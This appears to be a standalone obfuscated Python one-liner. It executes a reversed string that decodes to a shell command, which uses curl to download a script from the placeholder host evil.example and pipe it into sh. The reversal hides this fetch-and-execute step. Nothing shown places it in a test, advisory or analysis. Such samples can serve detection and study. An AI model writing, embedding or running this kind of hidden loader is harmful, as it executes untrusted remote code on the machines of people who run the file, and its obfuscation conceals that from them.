exec('\n)"hs | x/elpmaxe.live//:ptth s- lruc"(metsys.so\nso tropmi'[::-1])
